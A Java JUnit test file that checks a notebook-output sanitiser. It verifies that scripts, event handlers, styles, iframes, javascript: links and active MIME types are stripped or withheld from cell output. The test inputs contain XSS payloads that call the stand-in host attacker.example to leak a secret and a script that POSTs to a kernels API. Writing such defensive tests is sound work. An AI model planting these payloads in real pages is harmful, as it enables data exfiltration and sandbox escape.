package dev.codeagent.jupyter;

import static org.assertj.core.api.Assertions.assertThat;

import dev.codeagent.domain.session.MimeBundle;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The notebook page is a way out of the sandbox: what a cell displays must not run or fetch anything there. */
class NotebookOutputsTest {

    @Test
    void htmlKeepsTablesAndTextButLosesScriptsHandlersStylesAndFetches() {
        String attack = "<table border=\"1\" class=\"dataframe\"><tr><td onclick=\"steal()\">1</td></tr></table>"
                + "<script>fetch('/api/kernels', {method: 'POST'})</script>"
                + "<img src=\"https://attacker.example/?secret=42\" onerror=\"alert(1)\">"
                + "<style>body { background: url(https://attacker.example/x) }</style>"
                + "<iframe src=\"https://attacker.example\"></iframe>"
                + "<a href=\"javascript:alert(2)\">x</a><b style=\"background:url(https://attacker.example)\">bold</b>";
        String html = NotebookOutputs.forNotebook(MimeBundle.of("text/html", attack)).data().get("text/html");
        assertThat(html).contains("<table border=\"1\" class=\"dataframe\">", "<td>1</td>", "<b>bold</b>")
                .doesNotContainIgnoringCase("script").doesNotContain("onclick").doesNotContain("onerror")
                .doesNotContain("attacker.example").doesNotContain("javascript:").doesNotContain("iframe")
                .doesNotContain("style");
    }

    @Test
    void activeAndFetchingTypesAreWithheldAndSaidSo() {
        MimeBundle b = NotebookOutputs.forNotebook(new MimeBundle(Map.of(
                "application/javascript", "alert(1)",
                "image/svg+xml", "<svg onload=\"alert(1)\"/>",
                "text/markdown", "![x](https://attacker.example/?leak)",
                "image/png", "iVBORw0KGgo=")));
        assertThat(b.data()).containsOnlyKeys("image/png");
        MimeBundle only = NotebookOutputs.forNotebook(MimeBundle.of("application/javascript", "alert(1)"));
        assertThat(only.data()).containsOnlyKeys(MimeBundle.TEXT_PLAIN);
        assertThat(only.data().get(MimeBundle.TEXT_PLAIN)).contains("application/javascript").contains("not passed");
    }

    @Test
    void dataPassesUnchanged() {
        Map<String, String> data = Map.of(MimeBundle.TEXT_PLAIN, "<b>1</b>", "application/json", "{\"a\": 1}");
        assertThat(NotebookOutputs.forNotebook(new MimeBundle(data)).data()).isEqualTo(data);
        assertThat(NotebookOutputs.escape("<a href='x'>&\"</a>")).isEqualTo("&lt;a href=&#39;x&#39;&gt;&amp;&quot;&lt;/a&gt;");
    }
}
